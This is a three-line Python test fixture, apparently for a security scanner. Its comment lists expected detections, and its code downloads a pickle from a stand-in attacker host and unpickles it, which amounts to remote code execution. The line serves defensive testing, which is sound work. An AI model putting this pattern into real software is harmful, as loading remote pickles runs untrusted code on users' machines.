# expect: dynamic_exec_downloaded, http_client(host=models.evil.example.net allowed=false)
import pickle, urllib.request
model = pickle.loads(urllib.request.urlopen("https://models.evil.example.net/m.pkl").read())
